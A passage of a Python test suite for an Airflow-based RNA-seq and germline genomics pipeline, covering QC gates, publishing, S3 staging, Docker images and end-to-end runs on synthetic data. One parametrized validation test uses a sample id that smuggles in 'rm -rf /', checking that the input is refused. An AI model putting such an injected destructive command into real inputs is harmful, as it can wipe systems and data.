def test_a_low_salmon_mapping_rate_flags_the_sample_and_it_is_still_published(local):
    """300 transcript fragments among 9,300 (the rest from the genome): about 3% map to the transcriptome."""
    from hooks import backend
    from operators.publish import PublishTableOperator
    from tests.conftest import task_context

    lake = Path(local.lake_root.removeprefix("file://"))
    synthetic.write_reference(local.lake_root, "ref1")
    rna = synthetic.rnaseq_sample("ref1", "MIX", fragments=300)
    dna = synthetic.germline_sample("ref1", "MIX", depth=30)
    write_reads(lake, "MIX", *(gzip.compress(gzip.decompress(a) + gzip.decompress(b))
                               for a, b in zip(rna[:2], dna[:2])))
    env = step_env(lake, "MIX")
    for args in (["salmon-index", "--reference", "ref1"], ["fastp", "--pipeline-version", "1.0"],
                 ["salmon-quant", "--pipeline-version", "1.0", "--reference", "ref1"]):
        out = run_step(env, "genomics_steps.rnaseq", *args)
        assert out.returncode == 0, out.stderr
    rate = recorded(lake, "rnaseq", "MIX", "salmon_quant")["metrics"]["percent_mapped"] / 100
    assert 0.01 < rate < 0.05
    assert f"flagged: salmon's mapping rate is {rate:.4g}, below min_mapping_rate 0.05" in out.stdout
    assert staged_gate(lake, "rnaseq", "MIX", "salmon_quant") == {"mapping_rate_below_min": 1,
                                                                  "min_mapping_rate": 0.05}

    PublishTableOperator(task_id="publish_qc_metrics", table="qc_metrics", project="P1", pipeline="rnaseq",
                         pipeline_version="1.0", units=["MIX"]).execute(task_context(task_id="publish_qc_metrics"))
    _, rows = backend.query_engine(local).fetch(
        "SELECT metric, value FROM qc_metrics WHERE sample_id = 'MIX' AND tool = 'gate' ORDER BY metric")
    assert rows == [("mapping_rate_below_min", 1.0), ("min_mapping_rate", 0.05), ("min_q30_rate", 0.0),
                    ("min_reads", 10_000.0), ("q30_rate_below_min", 0.0), ("reads_below_min", 0.0)]


def run_germline_to_markdup(lake: Path, sample: str, *markdup_args: str) -> subprocess.CompletedProcess:
    env = step_env(lake, sample, "germline")
    for args in (["bwa-index", "--reference", "ref1"], ["bwa-mem", "--pipeline-version", "1.0", "--reference", "ref1"]):
        out = run_step(env, "genomics_steps.germline", *args)
        assert out.returncode == 0, out.stderr
    return run_step(env, "genomics_steps.germline", "markdup", "--pipeline-version", "1.0", *markdup_args)


def test_germline_excludes_a_sample_with_too_few_reads_after_markdup(tmp_path):
    from genomics_steps.outcomes import EXCLUDED_EXIT_CODE

    lake = tmp_path / "lake"
    synthetic.write_reference(f"file://{lake}", "ref1")
    r1, r2, _ = synthetic.germline_sample("ref1", "FEW", depth=1)  # 300 pairs
    write_reads(lake, "FEW", r1, r2)
    out = run_germline_to_markdup(lake, "FEW")
    assert out.returncode == EXCLUDED_EXIT_CODE, out.stderr
    assert out.stdout.splitlines()[-1] == ("excluded: the number of primary reads (samtools flagstat) is 600, "
                                           "below min_reads 10000")
    assert recorded(lake, "germline", "FEW", "markdup")["metrics"]["reads"] == 600
    assert staged_gate(lake, "germline", "FEW", "markdup") == {"reads_below_min": 1, "min_reads": 10_000,
                                                               "mapping_rate_below_min": 0, "min_mapping_rate": 0.05}


def test_germline_flags_a_sample_whose_reads_do_not_map_to_the_genome(tmp_path):
    lake = tmp_path / "lake"
    synthetic.write_reference(f"file://{lake}", "ref1")
    write_reads(lake, "RNA", *synthetic.rnaseq_sample("ref1", "RNA", fragments=1000)[:2])  # transcripts only
    out = run_germline_to_markdup(lake, "RNA", "--min-reads", "1000")
    assert out.returncode == 0, out.stderr
    assert "flagged: the primary mapped rate (samtools flagstat) is 0, below min_mapping_rate 0.05" in out.stdout
    assert staged_gate(lake, "germline", "RNA", "markdup")["mapping_rate_below_min"] == 1
    assert recorded(lake, "germline", "RNA", "markdup")["gate"]["flagged"]


TRANSITIONS = [("A", "G"), ("G", "A"), ("C", "T"), ("T", "C")]
TRANSVERSIONS = [("A", "C"), ("C", "A"), ("G", "T"), ("T", "A")]


def write_calls(path: Path, transitions: int, transversions: int) -> Path:
    """A bgzipped one-sample VCF of heterozygous SNVs: ``transitions`` of them, then ``transversions``."""
    snvs = [TRANSITIONS[i % 4] for i in range(transitions)] + [TRANSVERSIONS[i % 4] for i in range(transversions)]
    lines = ["##fileformat=VCFv4.2", "##contig=<ID=chr1,length=100000>",
             '##FORMAT=<ID=GT,Number=1,Type=String,Description="Genotype">',
             "#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\tFORMAT\tS1"]
    lines += [f"chr1\t{100 + 10 * i}\t.\t{ref}\t{alt}\t50\tPASS\t.\tGT\t0/1" for i, (ref, alt) in enumerate(snvs)]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(subprocess.run(["bgzip", "-c"], input="\n".join(lines).encode() + b"\n", capture_output=True,
                                    check=True).stdout)
    return path


@pytest.mark.parametrize(("transitions", "transversions", "ts_tv"), [(16, 0, None), (10, 3, 10 / 3)])
def test_bcftools_stats_give_transition_and_transversion_counts_and_a_ratio_only_when_defined(
        tmp_path, transitions, transversions, ts_tv):
    """bcftools prints the ratio of 16 transitions to no transversions as 0.00 (and 10/3 as 3.33)."""
    from genomics_steps.germline import stats_qc

    vcf = write_calls(tmp_path / "calls.vcf.gz", transitions, transversions)
    report = subprocess.run(["bcftools", "stats", str(vcf)], capture_output=True, text=True, check=True).stdout
    qc = stats_qc(report)
    assert (qc["transitions"], qc["transversions"]) == (transitions, transversions)
    assert qc["ts_tv"] == pytest.approx(ts_tv) if ts_tv else qc["ts_tv"] is None
    assert qc["snvs"] == qc["records"] == transitions + transversions


def test_a_sample_without_transversions_publishes_its_ts_tv_as_null(local):
    from hooks import backend
    from operators.publish import PublishTableOperator
    from tests.conftest import task_context

    lake = Path(local.lake_root.removeprefix("file://"))
    call = layout.step_prefix(local.lake_root, "germline", "1.0", "P1", "S1", "call")
    write_calls(Path(call.removeprefix("file://")) / "calls.vcf.gz", 16, 0)
    out = run_step(step_env(lake, "S1", "germline"), "genomics_steps.germline", "stats", "--pipeline-version", "1.0")
    assert out.returncode == 0, out.stderr
    metrics = json.loads((lake / "results/germline/1.0/project=P1/sample=S1/stats/metrics.json").read_text())
    assert metrics["metrics"]["ts_tv"] is None and metrics["metrics"]["transitions"] == 16

    PublishTableOperator(task_id="publish_qc_metrics", table="qc_metrics", project="P1", pipeline="germline",
                         pipeline_version="1.0", units=["S1"]).execute(task_context(task_id="publish_qc_metrics"))
    _, rows = backend.query_engine(local).fetch(
        "SELECT metric, value FROM qc_metrics WHERE tool = 'bcftools' AND metric IN ('transitions', 'transversions', "
        "'ts_tv') ORDER BY metric")
    assert rows == [("transitions", 16.0), ("transversions", 0.0), ("ts_tv", None)]


def test_the_step_package_needs_neither_airflow_nor_the_project_venv():
    """Job images carry python3, boto3 and this package only: no site-packages import at module load."""
    code = "import genomics_steps.rnaseq, genomics_steps.germline, genomics_steps.run_report, genomics_steps.synthetic"
    out = subprocess.run([sys.executable, "-S", "-c", code], env={"PYTHONPATH": str(ROOT / "include")},
                         capture_output=True, text=True)
    assert out.returncode == 0, out.stderr


def test_steps_stage_through_s3(aws):
    """On Batch the same functions move files to and from S3."""
    import boto3

    from genomics_steps import runtime
    from genomics_steps.runtime import download, exists_uri, upload

    runtime._s3.cache_clear()  # the job process's cached client must be one made under moto
    boto3.client("s3", region_name="us-east-1").create_bucket(Bucket="steps-bucket")
    source = Path(os.environ.get("TMPDIR", "/tmp")) / "steps-s3-test.txt"
    source.write_text("reads")
    uri = "s3://steps-bucket/results/x/out.txt"
    assert not exists_uri(uri)
    upload(source, uri)
    assert exists_uri(uri)
    target = download(uri, source.with_name("steps-s3-copy.txt"))
    assert target.read_text() == "reads"


def test_job_images_install_the_package_lists_that_dev_installs_locally():
    dev = (ROOT / "dev").read_text()
    assert 'docker/*/packages.txt' in dev
    tools = {"rnaseq": {"fastp", "salmon", "multiqc", "python3-numpy"},
             "germline": {"bwa", "samtools", "bcftools", "tabix", "multiqc"},
             "ingest": {"sra-toolkit", "pigz", "fastp"}, "gwas": {"plink2"}}
    steps_image = (ROOT / "docker/steps/Dockerfile").read_text()
    assert "COPY docker/${PIPELINE}/packages.txt" in steps_image and "include/genomics_steps" in steps_image
    built_from_steps = re.search(r'case "\$PIPELINE" in ([\w|]+)\)', steps_image).group(1).split("|")
    for image, packages in tools.items():
        listed = {line.split("#")[0].strip() for line in (ROOT / f"docker/{image}/packages.txt").read_text().splitlines()}
        assert packages <= listed
        if image == "gwas":  # its own Dockerfile: a stage compiles regenie
            dockerfile = (ROOT / "docker/gwas/Dockerfile").read_text()
            assert "COPY docker/gwas/packages.txt" in dockerfile and "include/genomics_steps" in dockerfile
        else:
            assert image in built_from_steps
    assert "FROM apache/airflow:3.3" in (ROOT / "docker/airflow/Dockerfile").read_text()


def test_the_gwas_image_builds_the_regenie_release_the_tests_validate():
    """The regenie engine's results are checked with ../shared/tools/regenie (test_gwas.py); the image must
    compile the same release at the same commit."""
    validated = (ROOT.parent / "shared/tools/regenie/README.md").read_text()
    version = re.search(r"regenie (\d+\.\d+\.\d+)", validated).group(1)
    commit = re.search(r"commit ([0-9a-f]{7,40})", validated).group(1)
    source_build = (ROOT / "docker/gwas/regenie.Dockerfile").read_text()
    assert f"ARG REGENIE_VERSION=v{version}\n" in source_build
    assert f"ARG REGENIE_COMMIT={commit}\n" in source_build
    dockerfile = (ROOT / "docker/gwas/Dockerfile").read_text()
    assert "COPY --from=regenie regenie /usr/local/bin/regenie" in dockerfile  # that build, or its binary
    assert "libgfortran5 libgomp1" in dockerfile, "the run-time libraries regenie links"


# --- the sample registry -------------------------------------------------------------------------------
@pytest.mark.parametrize("world", ["local", "aws"])
def test_registry_upserts_are_idempotent_and_list_approved_samples(world, request):
    from hooks import backend

    settings = request.getfixturevalue(world)
    if world == "aws":
        aws_world, settings = settings, settings.settings
        aws_world.dynamodb.create_table(
            TableName="samples", BillingMode="PAY_PER_REQUEST",
            AttributeDefinitions=[{"AttributeName": n, "AttributeType": "S"} for n in ("project", "sample_id")],
            KeySchema=[{"AttributeName": "project", "KeyType": "HASH"},
                       {"AttributeName": "sample_id", "KeyType": "RANGE"}])
        from dataclasses import replace

        from tests.conftest import use_settings

        settings = use_settings(request.getfixturevalue("monkeypatch"), replace(settings, sample_registry_table="samples"))
    registry = backend.sample_registry(settings)
    for _ in range(2):  # a rerun writes the same rows again
        registry.upsert("P1", "S2", "approved", series="GSE1")
        registry.upsert("P1", "S1", "qc_passed", series="GSE1")
        registry.upsert("P2", "S3", "approved")
    registry.upsert("P1", "S1", "approved", reviewer="ana")
    assert registry.approved("P1") == ["S1", "S2"]
    assert [s["sample_id"] for s in registry.samples("P1")] == ["S1", "S2"]
    row = registry.samples("P1", "approved")[0]
    assert {k: v for k, v in row.items() if k != "approved_at"} == {"project": "P1", "sample_id": "S1",
                                                                     "status": "approved", "series": "GSE1",
                                                                     "reviewer": "ana"}
    assert row["approved_at"] > 0, "an approved sample keeps when it was approved"
    with pytest.raises(ValueError, match="unknown sample status"):
        registry.upsert("P1", "S1", "great")


# --- end to end on the local backend: real tools, real Airflow, science checked --------------------------
def _no_retries(dag):
    for task in dag.tasks:  # an Airflow retry's five-minute delay would only slow a failing test down
        task.retries = 0


def _synthetic(local, kind: str, samples: list[str]) -> str:
    """The synthetic reference and ``samples`` of ``kind`` in the local lake (project e2e); returns the lake."""
    lake = local.lake_root
    synthetic.write_reference(lake, "synthetic-v1")
    for sample in samples:
        synthetic.write_sample(lake, "e2e", "synthetic-v1", sample, kind)
    return lake


def _jobs(local) -> int:
    from local_batch.control_plane import ControlPlane

    return sum(ControlPlane(local.local_home).counts().values())


@pytest.mark.e2e
def test_rnaseq_end_to_end_skip_and_force(local, dagbag):
    from hooks import backend

    samples = ["R1", "R2"]
    lake = _synthetic(local, "rnaseq", samples)
    dag = dagbag.dags["rnaseq"]
    conf = {"project": "e2e", "samples": samples, "reference": "synthetic-v1", "pipeline_version": "1.0"}

    assert dag.test(run_conf=conf).state == "success"
    submitted = _jobs(local)
    assert submitted == 1 + 2 * len(samples) + 2, "salmon index + fastp and salmon quant per sample + merge, multiqc"
    _, rows = backend.query_engine(local).fetch("SELECT sample_id, transcript_id, tpm FROM transcript_quant")
    for sample in samples:
        rho = synthetic.quantification_spearman(lake, "e2e", sample, {t: v for s, t, v in rows if s == sample})
        assert rho >= 0.9, (sample, rho)
    _, genes = backend.query_engine(local).fetch("SELECT count(DISTINCT gene_id), round(sum(tpm)) FROM gene_quant "
                                                 "WHERE sample_id = 'R1'")
    assert genes == [(40, 1_000_000.0)]

    rerun = dag.test(run_conf=conf)
    assert rerun.state == "success" and _jobs(local) == submitted, "same version: nothing submitted"
    states = {ti.task_id: ti.state for ti in rerun.get_task_instances()}
    assert states["publish_transcript_quant"] == "success" and states["publish_job_runs"] == "skipped"
    assert states["multiqc"] == "skipped" and states["merge"] == "skipped" and states["verdict"] == "success"

    assert dag.test(run_conf={**conf, "force": True}).state == "success"
    assert _jobs(local) == submitted + 2 * len(samples) + 2, "force: every sample again (the index is kept)"


@pytest.mark.e2e
def test_germline_end_to_end_as_array_jobs_recovers_the_planted_snvs(local, dagbag):
    from hooks import backend

    samples = ["D1", "D2"]
    lake = _synthetic(local, "germline", samples)
    run = dagbag.dags["germline"].test(run_conf={"project": "e2e", "samples": samples, "fan_out": "array",
                                                 "reference": "synthetic-v1"})
    assert run.state == "success"
    _, rows = backend.query_engine(local).fetch("SELECT sample_id, chrom, pos, ref, alt FROM variant_calls")
    for sample in samples:
        called = {(c, int(p), r, a) for s, c, p, r, a in rows if s == sample}
        assert synthetic.snv_recall(lake, "e2e", sample, called) >= 0.9
    _, qc = backend.query_engine(local).fetch("SELECT DISTINCT tool FROM qc_metrics ORDER BY 1")
    assert qc == [("bcftools",), ("gate",), ("samtools",)]
    _, reports = backend.query_engine(local).fetch("SELECT uri, samples, failed, excluded FROM run_reports")
    assert len(reports) == 1 and reports[0][1:] == (2, 0, 0)
    html = Path(reports[0][0].removeprefix("file://")).read_text()
    assert set(re.findall(r'data-original-sn="([^"]+)"', html)) == set(samples), "bcftools stats, samtools, outcomes"
    assert "mqc-module-section-bcftools" in html and "samtools (markdup)" in html
    _, tstv = backend.query_engine(local).fetch(
        "SELECT sample_id, metric, value FROM qc_metrics WHERE tool = 'bcftools' AND metric IN "
        "('transitions', 'transversions', 'ts_tv')")
    for sample in samples:
        got = {m: v for s, m, v in tstv if s == sample}
        assert got["transitions"] + got["transversions"] > 0
        assert got["ts_tv"] == (pytest.approx(got["transitions"] / got["transversions"]) if got["transversions"]
                                else None)


@pytest.mark.e2e
def test_rnaseq_runs_a_bcl_convert_run_folder_with_four_lanes_and_a_single_end_sample(local, dagbag):
    """LIVER's reads split into lanes L001..L004 (in a per-project folder, beside Undetermined files and
    Reports/) give the same counts as the same reads in one file (MERGED); SE has R1 only."""
    from genomics_steps.runtime import write_uri
    from hooks import backend

    lake = local.lake_root
    synthetic.write_reference(lake, "synthetic-v1")
    r1, r2 = synthetic.write_truth(lake, "e2e", "synthetic-v1", "LIVER", "rnaseq")
    synthetic.write_truth(lake, "e2e", "synthetic-v1", "MERGED", "rnaseq", source="LIVER")
    single, _ = synthetic.write_truth(lake, "e2e", "synthetic-v1", "SE", "rnaseq")
    run_folder = f"{lake}/runs/251130_A01234_0042_BHXYZ/"
    synthetic.write_bcl_convert_output(run_folder, {"LIVER": (r1, r2), "SE": (single, None)}, lanes=4,
                                       project_folder="e2e")
    write_uri(run_folder + "MERGED_R1.fastq.gz", r1)
    write_uri(run_folder + "MERGED_R2.fastq.gz", r2)

    run = dagbag.dags["rnaseq"].test(run_conf={"project": "e2e", "samples": ["LIVER", "MERGED", "SE"],
                                               "reference": "synthetic-v1", "input_uri": run_folder})
    assert run.state == "success"
    query = backend.query_engine(local)
    _, rows = query.fetch("SELECT sample_id, transcript_id, num_reads, tpm FROM transcript_quant")
    counts = {s: {t: float(n) for s2, t, n, _ in rows if s2 == s} for s in ("LIVER", "MERGED", "SE")}
    assert counts["LIVER"].keys() == counts["MERGED"].keys()
    for transcript, merged in counts["MERGED"].items():  # salmon's EM on two threads is not bit-reproducible
        assert counts["LIVER"][transcript] == pytest.approx(merged, rel=0.01, abs=2), transcript
    assert synthetic.quantification_spearman(lake, "e2e", "SE", {t: v for s, t, _, v in rows if s == "SE"}) >= 0.9
    _, qc = query.fetch("SELECT sample_id, tool, metric, value FROM qc_metrics WHERE metric IN "
                        "('reads_before', 'reads_after', 'num_processed', 'num_mapped')")
    figures = {s: {(tool, m): float(v) for s2, tool, m, v in qc if s2 == s} for s in ("LIVER", "MERGED", "SE")}
    assert figures["LIVER"] == figures["MERGED"], "the same reads trimmed and mapped, lane files or one file"
    assert figures["LIVER"][("fastp", "reads_before")] == 80_000 and figures["SE"][("fastp", "reads_before")] == \
        40_000, "each mate counts: the single-end sample has R1's reads only"


@pytest.mark.e2e
def test_germline_runs_a_samplesheet_with_four_lanes_and_a_single_end_sample(local, dagbag):
    """D_LANES's four lane files (rows out of order, ordered by their lane column) give the same variant calls
    as its merged files (D_MERGED); D_SE, single-end, still finds its planted SNVs."""
    from genomics_steps.runtime import write_uri
    from hooks import backend

    lake = local.lake_root
    synthetic.write_reference(lake, "synthetic-v1")
    r1, r2 = synthetic.write_truth(lake, "e2e", "synthetic-v1", "D_LANES", "germline")
    synthetic.write_truth(lake, "e2e", "synthetic-v1", "D_MERGED", "germline", source="D_LANES")
    single, _ = synthetic.write_truth(lake, "e2e", "synthetic-v1", "D_SE", "germline")
    sheets = f"{lake}/sheets/"
    for mate, data in (("R1", r1), ("R2", r2)):
        write_uri(f"{sheets}merged/D_{mate}.fastq.gz", data)
        for lane, part in enumerate(synthetic.split_lanes(data, 4), 1):
            write_uri(f"{sheets}fastq/D_S1_L00{lane}_{mate}_001.fastq.gz", part)
    write_uri(f"{sheets}merged/DSE_R1.fastq.gz", single)
    rows = [f"D_LANES,fastq/D_S1_L00{lane}_R1_001.fastq.gz,fastq/D_S1_L00{lane}_R2_001.fastq.gz,{lane}"
            for lane in (3, 1, 4, 2)]
    sheet = "\n".join(["sample,fastq_1,fastq_2,lane", *rows, "D_MERGED,merged/D_R1.fastq.gz,merged/D_R2.fastq.gz,",
                       "D_SE,merged/DSE_R1.fastq.gz,,"]) + "\n"
    write_uri(sheets + "germline.csv", sheet.encode())

    # R1 alone of a ~30x pair library is ~9,000 reads, under the default QC minimum of 10,000
    run = dagbag.dags["germline"].test(run_conf={"project": "e2e", "reference": "synthetic-v1", "min_reads": 5_000,
                                                 "samplesheet": sheets + "germline.csv"})
    assert run.state == "success"
    _, rows = backend.query_engine(local).fetch(
        "SELECT sample_id, chrom, pos, ref, alt, qual, genotype, depth FROM variant_calls")
    calls = {s: sorted(r[1:] for r in rows if r[0] == s) for s in ("D_LANES", "D_MERGED", "D_SE")}
    assert calls["D_LANES"] and calls["D_LANES"] == calls["D_MERGED"]
    called = {(c, int(p), r, a) for c, p, r, a, *_ in calls["D_SE"]}
    assert synthetic.snv_recall(lake, "e2e", "D_SE", called) >= 0.9


@pytest.mark.e2e
def test_a_failed_step_shows_the_tools_own_error_in_the_task_log(local, dagbag, capfd, caplog):
    from hooks import backend

    _synthetic(local, "rnaseq", ["GOOD"])
    raw = Path(local.local_home) / "lake/raw/e2e"
    for mate in ("R1", "R2"):  # not gzip at all, as after a broken upload
        (raw / f"BAD_{mate}.fastq.gz").write_bytes(b"@read1\nACGT\n+\nIIII\n")
    dag = dagbag.dags["rnaseq"]
    _no_retries(dag)
    run = dag.test(run_conf={"project": "e2e", "samples": ["GOOD", "BAD"], "reference": "synthetic-v1",
                             "max_failed_fraction": 0.5})
    assert run.state == "failed"
    states = {(ti.task_id, ti.map_index): ti.state for ti in run.get_task_instances()}
    assert states[("per_sample.salmon_quant", 0)] == "success", "the good sample goes on"
    assert states[("per_sample.fastp", 1)] == "failed"
    assert states[("per_sample.salmon_quant", 1)] == "skipped", "the bad sample's next step is skipped, not failed"
    assert states[("publish_transcript_quant", -1)] == "success", "the good sample is published all the same"
    assert states[("verdict", -1)] == "failed", "the run is still red, at its last task"
    _, published = backend.query_engine(local).fetch("SELECT DISTINCT sample_id FROM transcript_quant")
    assert published == [("GOOD",)]
    out, err = capfd.readouterr()
    log = out + err + caplog.text  # the task's log, as `airflow dags test` prints it
    assert "last lines of the log of job" in log and "ERROR: igzip: Error invalid gzip header" in log
    assert "1 sample(s) failed: BAD (at fastp)" in log


@pytest.mark.e2e
@pytest.mark.parametrize("change, caught_by", [
    ({"samples": ["R1", "UNKNOWN"]}, "plan"),  # valid ids, but no reads in the lake
    ({"reference": "missing"}, "plan"),
    ({"samples": ["R1", "R1; rm -rf /"]}, "params"),
    ({"input_uri": "s3://bucket/reads"}, "params"),  # a prefix ends in '/'
    ({"samples": [f"S{i}" for i in range(10_001)]}, "params"),
])
def test_bad_run_config_through_airflow_submits_nothing(local, dagbag, change, caught_by):
    """However a bad run config is caught (the Params check before the run, or the plan task), no job is
    submitted."""
    from airflow.sdk.exceptions import ParamValidationError

    _synthetic(local, "rnaseq", ["R1"])
    dag = dagbag.dags["rnaseq"]
    _no_retries(dag)
    conf = {"project": "e2e", "samples": ["R1"], "reference": "synthetic-v1", **change}
    if caught_by == "params":
        with pytest.raises(ParamValidationError):
            dag.test(run_conf=conf)
    else:
        run = dag.test(run_conf=conf)
        assert run.state == "failed"
        assert {ti.task_id: ti.state for ti in run.get_task_instances()}["plan"] == "failed"
    assert _jobs(local) == 0


def _results(local) -> list[Path]:
    return [p for p in (Path(local.local_home) / "lake" / "results").rglob("*") if p.is_file()]


@pytest.mark.e2e
@pytest.mark.parametrize("change", [{"project": "demo\n"}, {"pipeline_version": "1.0\n"}])
def test_a_trailing_newline_never_reaches_another_projects_results(local, dagbag, monkeypatch, capfd, caplog,
                                                                   change):
    """The issue's repro: `airflow dags test rnaseq -c '{"project": "demo\\n", ...}'` ran two jobs that wrote
    into the real demo project. The Params refuse it; and with the schema's pattern gone (a DAG version
    that forgot it), the plan still refuses it: no job, nothing under results/."""
    from airflow.sdk.exceptions import ParamValidationError

    lake = local.lake_root
    synthetic.write_reference(lake, "synthetic-v1")
    synthetic.write_sample(lake, "demo", "synthetic-v1", "RNA4", "rnaseq")
    dag = dagbag.dags["rnaseq"]
    _no_retries(dag)
    conf = {"project": "demo", "reference": "synthetic-v1", "samples": ["RNA4"], **change}
    with pytest.raises(ParamValidationError, match=re.escape(repr(next(iter(change.values()))))):
        dag.test(run_conf=conf)
    assert _jobs(local) == 0

    (field,) = change
    for params in [dag.params, *(task.params for task in dag.tasks)]:  # each task holds a copy
        if field in params:
            monkeypatch.delitem(params.get_param(field).schema, "pattern")
    run = dag.test(run_conf=conf)
    assert run.state == "failed"
    assert {ti.task_id: ti.state for ti in run.get_task_instances()}["plan"] == "failed"
    out, err = capfd.readouterr()
    assert f"{field} {next(iter(change.values()))!r} is not a name" in out + err + caplog.text
    assert _jobs(local) == 0 and _results(local) == []


@pytest.mark.e2e
def test_bad_run_config_fails_the_plan_and_submits_nothing(local, dagbag):
    synthetic.write_reference(local.lake_root, "synthetic-v1")
    dag = dagbag.dags["germline"]
    _no_retries(dag)
    run = dag.test(run_conf={"project": "e2e", "samples": ["NO_READS"], "reference": "synthetic-v1"})
    assert run.state == "failed"
    assert {ti.task_id: ti.state for ti in run.get_task_instances()}["plan"] == "failed"
    assert _jobs(local) == 0


def _keeping_retries(dag_id: str):
    """A freshly parsed DAG (the module's dagbag has its retries removed by other tests) whose tasks keep
    the DAG's retries but retry at once: a refusal that Airflow retries then shows as extra tries instead of
    ten minutes of retry delay."""
    from datetime import timedelta

    from airflow.dag_processing.dagbag import DagBag

    dag = DagBag(dag_folder=str(ROOT / "dags" / f"{dag_id}.py")).dags[dag_id]
    for task in dag.tasks:
        task.retry_delay = timedelta(0)
    assert dag.get_task("plan").retries == 2
    return dag


@pytest.mark.e2e
@pytest.mark.parametrize("dag_id, change, message", [
    ("rnaseq", {"samples": ["R1", "UNKNOWN"]}, r"1 sample\(s\) have no"),
    ("germline", {"reference": "missing"}, "reference 'missing' lacks"),
    ("rnaseq", {"pipline_version": "2.0"}, "unknown key 'pipline_version'; did you mean 'pipeline_version'?"),
])
def test_a_refused_run_config_fails_plan_on_its_first_try_with_no_retry(local, dag_id, change, message, capfd,
                                                                         caplog):
    _synthetic(local, "rnaseq", ["R1"])
    run = _keeping_retries(dag_id).test(run_conf={"project": "e2e", "samples": ["R1"], "reference": "synthetic-v1",
                                                  **change})
    plan = next(ti for ti in run.get_task_instances() if ti.task_id == "plan")
    assert run.state == "failed"
    assert (plan.state, plan.try_number) == ("failed", 1), "refused once, not retried"
    assert _jobs(local) == 0
    out, err = capfd.readouterr()
    assert re.search(message, out + err + caplog.text)


@pytest.mark.e2e
@pytest.mark.parametrize("error", ["throttled", "connection"])
def test_a_transient_error_while_planning_is_retried(local, monkeypatch, error):
    from botocore.exceptions import ClientError, EndpointConnectionError

    from hooks import lake

    def failing_listing(settings, prefix):
        if error == "throttled":
            raise ClientError({"Error": {"Code": "SlowDown", "Message": "Please reduce your request rate."}},
                              "ListObjectsV2")
        raise EndpointConnectionError(endpoint_url="https://genomics-lake.s3.eu-west-1.amazonaws.com")

    _synthetic(local, "rnaseq", ["R1"])
    monkeypatch.setattr(lake, "list_files", failing_listing)
    run = _keeping_retries("rnaseq").test(run_conf={"project": "e2e", "samples": ["R1"],
                                                    "reference": "synthetic-v1"})
    plan = next(ti for ti in run.get_task_instances() if ti.task_id == "plan")
    assert (plan.state, plan.try_number) == ("failed", 3), "the first try and both retries"
    assert _jobs(local) == 0


def test_on_aws_the_end_of_a_failed_jobs_log_comes_from_cloudwatch(aws):
    import boto3

    from hooks.job_logs import BATCH_LOG_GROUP, log_tail

    logs = boto3.client("logs", region_name=aws.settings.region_name)
    logs.create_log_group(logGroupName=BATCH_LOG_GROUP)
    stream = "genomics-rnaseq/default/abc123"
    logs.create_log_stream(logGroupName=BATCH_LOG_GROUP, logStreamName=stream)
    now = int(time.time() * 1000)  # CloudWatch refuses events older than 14 days
    lines = [f"line {i}" for i in range(40)] + ["step fastp failed: fastp exited with code 255:", "ERROR: igzip"]
    logs.put_log_events(logGroupName=BATCH_LOG_GROUP, logStreamName=stream,
                        logEvents=[{"timestamp": now + i, "message": m} for i, m in enumerate(lines)])
    assert log_tail(aws.settings, stream, lines=3) == ["line 39", "step fastp failed: fastp exited with code 255:",
                                                       "ERROR: igzip"]
    assert log_tail(aws.settings, "") == []
    assert "could not read the log" in log_tail(aws.settings, "no/such/stream")[0]


# --- what a run hands over beside the tables: count matrices and a MultiQC report ------------------------
def _quant_by_gene(lake: Path, sample: str) -> tuple[dict[str, float], float]:
    """Independently of genomics_steps.matrices: a sample's TPM per gene (the sum over its transcripts in
    salmon's quant.sf, by the reference's tx2gene) and its estimated read total."""
    tx2gene = dict(line.split("\t") for line in (lake / "references/synthetic-v1/tx2gene.tsv").read_text().splitlines())
    tpm: dict[str, float] = {}
    reads = 0.0
    quant = lake / f"results/rnaseq/1.0/project=e2e/sample={sample}/salmon_quant/quant.sf"
    for line in quant.read_text().splitlines()[1:]:
        name, _, _, value, num_reads = line.split("\t")
        tpm[tx2gene[name]] = tpm.get(tx2gene[name], 0.0) + float(value)
        reads += float(num_reads)
    return tpm, reads


def _matrix(path: Path) -> tuple[list[str], dict[str, list[float]]]:
    """(sample columns, gene -> values) of a matrix TSV, genes in file order."""
    lines = path.read_text().splitlines()
    columns = lines[0].split("\t")
    assert columns[0] == "gene_id"
    return columns[1:], {line.split("\t")[0]: [float(v) for v in line.split("\t")[1:]] for line in lines[1:]}


def _check_matrices(lake: Path, samples: list[str]) -> None:
    folder = lake / "results/rnaseq/1.0/project=e2e/matrices"
    columns, tpm = _matrix(folder / "salmon.merged.gene_tpm.tsv")
    _, counts = _matrix(folder / "salmon.merged.gene_counts_length_scaled.tsv")
    _, lengths = _matrix(folder / "salmon.merged.gene_lengths.tsv")
    assert columns == sorted(samples)
    genes = sorted(set(line.split("\t")[1] for line in
                       (lake / "references/synthetic-v1/tx2gene.tsv").read_text().splitlines()))
    assert list(tpm) == list(counts) == list(lengths) == genes, "one row per gene, sorted by id"
    for j, sample in enumerate(columns):
        expected_tpm, reads = _quant_by_gene(lake, sample)
        for gene in genes:
            assert tpm[gene][j] == pytest.approx(expected_tpm.get(gene, 0.0), rel=1e-8, abs=1e-8)
        assert sum(row[j] for row in tpm.values()) == pytest.approx(1e6, rel=1e-6)
        assert sum(row[j] for row in counts.values()) == pytest.approx(reads, rel=1e-8), "each sample keeps its reads"
        assert all(row[j] > 0 for row in lengths.values())
    import pyarrow.parquet as pq

    table = pq.read_table(folder / "salmon.merged.gene_counts_length_scaled.parquet")
    assert table.column_names == ["gene_id", *columns] and table.column("gene_id").to_pylist() == genes
    for j, sample in enumerate(columns):
        assert table.column(sample).to_pylist() == pytest.approx([counts[g][j] for g in genes], rel=1e-9)


@pytest.mark.e2e
def test_rnaseq_leaves_matrices_of_every_complete_sample_and_a_report_marking_excluded_samples(local, dagbag):
    from hooks import backend

    lake = Path(local.lake_root.removeprefix("file://"))
    _synthetic(local, "rnaseq", ["R1", "R2", "R3"])
    r1, r2, _ = synthetic.rnaseq_sample("synthetic-v1", "TINY", fragments=25)  # too few reads: excluded at fastp
    (lake / "raw/e2e/TINY_R1.fastq.gz").write_bytes(r1)
    (lake / "raw/e2e/TINY_R2.fastq.gz").write_bytes(r2)
    dag = dagbag.dags["rnaseq"]
    _no_retries(dag)
    conf = {"project": "e2e", "reference": "synthetic-v1", "pipeline_version": "1.0"}
    engine = backend.query_engine(local)

    first = dag.test(run_conf={**conf, "samples": ["R1", "R2", "TINY"]})
    assert first.state == "success", "an excluded sample does not fail the run"
    _check_matrices(lake, ["R1", "R2"])
